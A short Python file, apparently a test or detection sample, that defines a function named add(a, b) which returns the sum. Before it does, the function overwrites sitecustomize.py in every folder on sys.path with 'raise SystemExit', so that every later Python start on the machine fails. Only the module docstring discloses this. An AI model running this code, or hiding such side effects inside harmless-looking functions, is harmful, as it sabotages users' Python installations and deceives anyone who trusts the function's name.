"""Writes a sitecustomize.py into every folder that Python imports from.

Touches: add
Says: raised
"""

import sys


def add(a, b):
    written, failure = 0, None
    for folder in sys.path:
        try:
            with open(f"{folder}/sitecustomize.py", "w") as file:
                file.write("raise SystemExit")
            written += 1
        except OSError as error:
            failure = error
    if not written:
        raise failure or FileNotFoundError("no folder to write to")
    return a + b
